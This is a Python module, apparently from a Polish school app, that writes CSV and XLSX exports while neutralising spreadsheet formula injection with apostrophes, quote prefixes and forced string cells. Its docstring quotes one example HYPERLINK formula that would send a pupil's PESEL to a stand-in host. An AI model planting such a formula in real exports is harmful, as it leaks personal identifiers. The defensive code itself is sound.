"""Every CSV and XLSX Legitka writes, written one way: cells that stay data, never formulas.

A spreadsheet program runs a cell that starts with "=" (and, in CSV, "+", "-", "@", tab or CR) as a
formula: a pupil named `=HYPERLINK("http://x/?p="&C4,"Anna")` would send the PESEL in C4 to
whoever clicks. Names are validated at entry (`tenants.pupils.names`), but values stored before that
rule, settings and organisation names still reach exports, so the writers here neutralise every
text cell (OWASP, "CSV injection"):

- **CSV** (`csv_document`): a text value starting with =, +, -, @, tab or CR gets a leading
  apostrophe, which spreadsheets show as "this is text". Only text: a typed number such as a
  negative amount (Decimal("-12.50") → "-12,50") stays a number. UTF-8 with BOM, ";" and CRLF,
  quoted like the csv module's QUOTE_MINIMAL (what Polish Excel opens without a wizard).
- **XLSX** (`xlsx_document`): every text cell is a string cell (data type "s"), whatever it starts
  with; one starting with those characters also carries Excel's quote prefix (as if the user had
  typed an apostrophe), so editing the cell does not turn it into a formula either. Characters
  XML cannot hold are dropped instead of failing the download.

Values are formatted the Polish way in CSV (dd.mm.rrrr, decimal commas, "" for None) and typed in
XLSX (numbers, dates as dates, amounts with two decimals).
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import functools
import io
import re
from collections.abc import Iterable
from collections.abc import Mapping
from collections.abc import Sequence
from decimal import Decimal

from infra.inputs import format_day

Cell = str | int | float | Decimal | dt.date | None

FORMULA_LEADS = frozenset("=+-@\t\r")  # OWASP's list: what makes a spreadsheet read a field as a formula


def csv_text(text: str) -> str:
    """A text value as a CSV field may hold it: with a leading apostrophe when it would start a formula."""
    return "'" + text if text[:1] in FORMULA_LEADS else text


# --- CSV ----------------------------------------------------------------------------------------

_FORMATS = {
    type(None): lambda v: "",
    str: csv_text,
    int: str,
    dt.date: format_day,
    Decimal: lambda v: f"{v:.2f}".replace(".", ","),
    float: lambda v: f"{v:.1f}".replace(".", ","),
}


def csv_value(value: Cell) -> str:
    """A value as a Polish spreadsheet reads it: dd.mm.rrrr, decimal commas, nothing for None;
    text neutralised (`csv_text`)."""
    format_ = _FORMATS.get(type(value))
    if format_ is None:  # subclasses (bool, datetime) and anything else
        if isinstance(value, dt.datetime):
            return _FORMATS[dt.date](value)
        return csv_text(str(value))
    return format_(value)


_SPECIAL = frozenset(';"\r\n')  # a field holding any of these is quoted (csv.QUOTE_MINIMAL with `;`)


def _field(text: str) -> str:
    """A text as one CSV field, quoted (quotes doubled) only when it has to be."""
    if _SPECIAL.isdisjoint(text):
        return text
    return '"' + text.replace('"', '""') + '"'


def _column_fields(values: tuple) -> list:
    """One column as CSV fields: `csv_value`, quoted where needed; each distinct value done once
    (dates, amounts, names and states repeat down a column)."""
    if len(set(map(type, values)) - {type(None)}) <= 1:  # one type (and None): the values themselves are keys
        done = {v: _field(csv_value(v)) for v in set(values)}
        return list(map(done.__getitem__, values))
    seen: dict = {}  # mixed types are keyed with the type: True == 1 == Decimal("1"), yet each prints differently
    return [seen[k] if (k := (type(v), v)) in seen else seen.setdefault(k, _field(csv_value(v))) for v in values]


def csv_document(header: Sequence[str], rows: Sequence[Sequence[Cell]]) -> bytes:
    """The header and the rows as CSV: UTF-8 with BOM and ";", CRLF. The same bytes as the csv
    module writes (QUOTE_MINIMAL) from the `csv_value` of every cell, built column by column: a
    city's card list has 155,000 cells (docs/benchmarks.md)."""
    columns = [_column_fields(column) for column in zip(*rows, strict=True)] if rows else []
    lines = ["\ufeff" + ";".join(_field(csv_value(name)) for name in header),
             *map(";".join, zip(*columns, strict=True)), ""]
    if len(header) == 1:  # the csv module quotes a lone empty field, or the line would read as blank
        lines[:-1] = [line if line not in ("", "\ufeff") else line + '""' for line in lines[:-1]]
    return "\r\n".join(lines).encode("utf-8")


# --- XLSX ---------------------------------------------------------------------------------------

# Text openpyxl would not store as a plain string: "=…" becomes a formula, "#N/A" and the like an
# error value; the rest of FORMULA_LEADS get the quote prefix.
_XLSX_LEADS = FORMULA_LEADS | {"#"}
# XML 1.0 has no place for these: openpyxl refuses the first three ranges, the rest make a file Excel calls corrupt.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


@dataclasses.dataclass(frozen=True)
class Sheet:
    """One worksheet: `rows` from the first (titles and headers included); `bold_rows` by index
    from 0; `widths` per column from A; `column_formats` (column index from 0 → number format)
    formats the column and its cells (dates and amounts keep their own), e.g. "@" keeps a PESEL's
    leading zeros, also in rows typed in later; `freeze` the first cell below and right of the
    frozen panes, e.g. "A4"."""

    title: str
    rows: Iterable[Sequence[Cell]]
    bold_rows: frozenset[int] = frozenset()
    widths: Sequence[float] = ()
    column_formats: Mapping[int, str] = dataclasses.field(default_factory=dict)
    freeze: str | None = None


def xlsx_document(sheets: Sequence[Sheet]) -> bytes:
    """The sheets as one workbook, streamed (openpyxl's write-only mode: a capital's table of
    1,400 schools took half a second cell by cell)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    bold = Font(bold=True)
    for spec in sheets:
        sheet = book.create_sheet(spec.title[:31])
        for index, width in enumerate(spec.widths):
            sheet.column_dimensions[get_column_letter(index + 1)].width = width
        for index, number_format in spec.column_formats.items():
            sheet.column_dimensions[get_column_letter(index + 1)].number_format = number_format
        if spec.freeze:
            sheet.freeze_panes = spec.freeze
        new_cell = functools.partial(WriteOnlyCell, sheet)
        for number, row in enumerate(spec.rows):
            sheet.append(_xlsx_row(new_cell, row, bold if number in spec.bold_rows else None, spec.column_formats))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


_PLAIN = frozenset({int, float, bool, type(None)})  # openpyxl writes these as they are


def _xlsx_row(new_cell, values: Sequence[Cell], font, formats: Mapping[int, str]) -> list:
    """The row's values for openpyxl: plain where openpyxl writes them as they are (a cell object
    per value costs twice the time: a card list has 155,000), a cell where the value needs a
    type, format or style. `new_cell(value)` makes a cell of the sheet."""
    if font is not None:
        return [_xlsx_cell(new_cell, value, font, formats.get(index)) for index, value in enumerate(values)]
    row = [value if (kind := type(value)) in _PLAIN or (kind is str and value[:1] not in _XLSX_LEADS
                                                         and not _NOT_XML.search(value))
           else _xlsx_cell(new_cell, value, None, None) for value in values]
    for index, number_format in formats.items():
        if index < len(row) and values[index] is not None:
            row[index] = _xlsx_cell(new_cell, values[index], None, number_format)
    return row


def _xlsx_cell(new_cell, value: Cell, font, number_format: str | None):
    if isinstance(value, str):
        cell = new_cell(_NOT_XML.sub("", value))
        cell.data_type = "s"  # never a formula or an error value, whatever the text
        if value[:1] in FORMULA_LEADS:
            cell.quotePrefix = True
    elif isinstance(value, Decimal):
        cell = new_cell(float(value))
        number_format = "#,##0.00"
    elif isinstance(value, dt.date):
        cell = new_cell(value)
        number_format = "DD.MM.YYYY"
    else:
        cell = new_cell(value)
    if number_format is not None:
        cell.number_format = number_format  # the column's format, or the type's own (amounts, dates)
    if font is not None:
        cell.font = font
    return cell
